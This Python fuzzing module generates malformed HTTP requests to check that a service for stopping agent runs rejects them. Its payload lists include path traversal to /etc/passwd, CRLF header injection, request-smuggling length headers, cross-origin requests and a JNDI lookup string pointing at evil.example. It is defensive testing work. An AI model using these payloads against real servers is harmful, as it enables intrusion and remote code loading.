"""Requests that nobody should send."""

import json
import random
import string

PATHS = ["/runs", "/stops", "/holds/x", "/audit", "/agents", "/healthz", "/", "/openapi.json"]
ODD_VALUES = [
    None,
    True,
    -1,
    0,
    1e308,
    2**70,
    "",
    "x" * 5000,
    [],
    [[]],
    {},
    {"a": {}},
    "\u0000",
    "💥",
    "NaN",
    [None] * 50,
]


class Malformed:
    """Makes one request after the other; every one of them is wrong, and none may stop a victim."""

    def __init__(self, seed, victims):
        self._random = random.Random(seed)
        self._victims = victims

    def next(self):
        """Return the bytes of a request."""
        kinds = [
            self._broken_json,
            self._wrong_types,
            self._wrong_kind,
            self._huge_head,
            self._odd_method,
            self._odd_path,
            self._odd_query,
            self._bad_chunks,
            self._bad_length,
            self._foreign_page,
            self._flipped,
            self._garbage,
            self._too_deep,
        ]
        return self._random.choice(kinds)()

    def _target(self):
        victim = self._random.choice(self._victims)
        return self._random.choice([f"/runs/{victim}/stop", "/stops", "/runs"])

    def _request(self, method, path, body=b"", headers=()):
        lines = [f"{method} {path} HTTP/1.1".encode("latin-1"), b"Host: localhost", b"Connection: close"]
        lines += [f"{name}: {value}".encode("latin-1") for name, value in headers]
        if body:
            lines.append(b"Content-Length: %d" % len(body))
        return b"\r\n".join(lines) + b"\r\n\r\n" + body

    def _post(self, path, body, kind="application/json"):
        return self._request("POST", path, body, [("Content-Type", kind)])

    def _broken_json(self):
        text = b'{"selector": {"all": true}, "agent": "sleeper", "mode": "kill"}'
        cut = text[: self._random.randrange(1, len(text) - 1)]
        wrong = self._random.choice([cut, text + b"}", b"\xff\xfe" + text, b"\xc3" + text, b'{"mode": "\xed\xa0\x80"}'])
        return self._post(self._target(), wrong)

    def _wrong_types(self):
        path = self._target()
        name = {"stop": "mode", "stops": "selector", "runs": "agent"}[path.rpartition("/")[2]]
        body = {name: self._random.choice([value for value in ODD_VALUES if value != {} or name != "mode"])}
        body[self._random.choice(["reason", "grace", "limits", "labels", "hold", "x"])] = self._random.choice(
            ODD_VALUES
        )
        if name == "mode" and body["mode"] is None:
            body["mode"] = "gentle"
        return self._post(path, json.dumps(body).encode())

    def _wrong_kind(self):
        kinds = [
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "",
            "json",
            ";;;",
        ]
        return self._post(self._target(), b'{"selector": {"all": true}, "mode": "kill"}', self._random.choice(kinds))

    def _huge_head(self):
        name = self._random.choice(["Cookie", "X-Large", "Authorization", "Last-Event-ID", "Idempotency-Key"])
        if self._random.random() < 0.5:
            headers = [(name, "x" * self._random.randrange(33_000, 60_000))]
        else:
            headers = [(f"X-{n}", "y" * 30) for n in range(1200)]
        return self._request("POST", self._target(), headers=headers)

    def _odd_method(self):
        methods = [
            "PUT",
            "PATCH",
            "HEAD",
            "TRACE",
            "CONNECT",
            "OPTIONS",
            "PROPFIND",
            "STOP",
            "get",
            "DELETE",
            "P\xd6ST",
        ]
        return self._request(self._random.choice(methods), self._target())

    def _odd_path(self):
        wrong = [
            "/../../../etc/passwd",
            "/runs/..%2f..%2fetc%2fpasswd/stop",
            "/runs/%00/stop",
            "/runs/%ff%fe/stop",
            "/runs/%0d%0aSet-Cookie:%20x=1/stop",
            "/runs/" + "x" * 5000 + "/stop",
            "/runs//stop",
            "//runs",
            "/runs/%2e%2e/stop?ifUnknown=wait",
            "/runs/\xe4/stop",
            "/runs/%/stop",
            "*",
            "http://evil.example/stops",
            "/" + "a/" * 2000,
            "/runs/${jndi:ldap://evil.example}/stop?ifUnknown=wait",
        ]
        return self._request(self._random.choice(["GET", "POST", "DELETE"]), self._random.choice(wrong))

    def _odd_query(self):
        victim = self._random.choice(self._victims)
        wrong = [
            f"/runs/{victim}/stop?wait=nan",
            f"/runs/{victim}/stop?wait=-1",
            f"/runs/{victim}/stop?wait=1e99",
            f"/runs/{victim}/stop?ifUnknown=kill",
        ]
        if self._random.random() < 0.5:
            return self._request("POST", self._random.choice(wrong))
        wrong = [
            "/runs?limit=0",
            "/runs?limit=99999999999999999999",
            "/runs?cursor=" + "9" * 5000,
            "/runs?cursor=%00",
            "/runs?status=alive",
            "/runs?label=nocolon",
            "/runs?parent=%0a",
            "/audit?after=-1",
            "/audit?limit=x",
            f"/runs/{victim}/events?after=-5",
            f"/runs/{victim}/events?after=1e5",
        ]
        return self._request("GET", self._random.choice(wrong))

    def _bad_chunks(self):
        head = b"POST %b HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nContent-Type: application/json\r\n"
        head = head % self._target().encode() + b"Transfer-Encoding: chunked\r\n\r\n"
        wrong = [
            b"zz\r\n{}\r\n",
            b"-1\r\n",
            b"fffffffffffffffff\r\n",
            b"5\r\n{}\r\n0\r\n\r\n",
            b"\x00\r\n\r\n",
            b"2\r\n{]\r\n0\r\n\r\n",
        ]
        return head + self._random.choice(wrong)

    def _bad_length(self):
        lengths = [
            "-1",
            "x",
            "99999999999999999999999",
            "1, 2",
            "0x10",
            "5\r\nContent-Length: 6",
            "1\r\nTransfer-Encoding: chunked",
        ]
        return self._request("POST", self._target(), headers=[("Content-Length", self._random.choice(lengths))]) + b"{}"

    def _foreign_page(self):
        headers = self._random.choice(
            [
                [("Origin", "https://evil.example")],
                [("Origin", "null")],
                [("Sec-Fetch-Site", "cross-site")],
                [("Origin", "http://localhost.evil.example"), ("Sec-Fetch-Site", "same-site")],
            ]
        )
        return self._request(
            "POST", self._target(), b'{"selector": {"all": true}}', [*headers, ("Content-Type", "application/json")]
        )

    def _flipped(self):
        """Return a request that was right before some of its bytes were changed; it names nobody."""
        valid = self._random.choice(
            [
                self._post("/runs/nobody/stop", b'{"mode": "immediate", "reason": "x"}'),
                self._post("/stops", b'{"selector": {"labels": {"nobody": "has this"}}, "dryRun": true}'),
                self._request("GET", "/runs?limit=5&label=a:b&status=running"),
                self._request("DELETE", "/holds/0123456789abcdef"),
            ]
        )
        changed = bytearray(valid)
        for _ in range(self._random.randrange(1, 6)):
            changed[self._random.randrange(len(changed))] = self._random.randrange(256)
        return bytes(changed)

    def _garbage(self):
        size = self._random.randrange(1, 400)
        if self._random.random() < 0.5:
            return self._random.randbytes(size)
        return "".join(self._random.choices(string.printable, k=size)).encode() + b"\r\n\r\n"

    def _too_deep(self):
        depth = self._random.choice([100, 1_000, 50_000])
        opening, closing = self._random.choice([(b"[", b"]"), (b'{"a":', b"}")])
        return self._post(
            self._target(), b'{"agent": "sleeper", "input": ' + opening * depth + b"1" + closing * depth + b"}"
        )
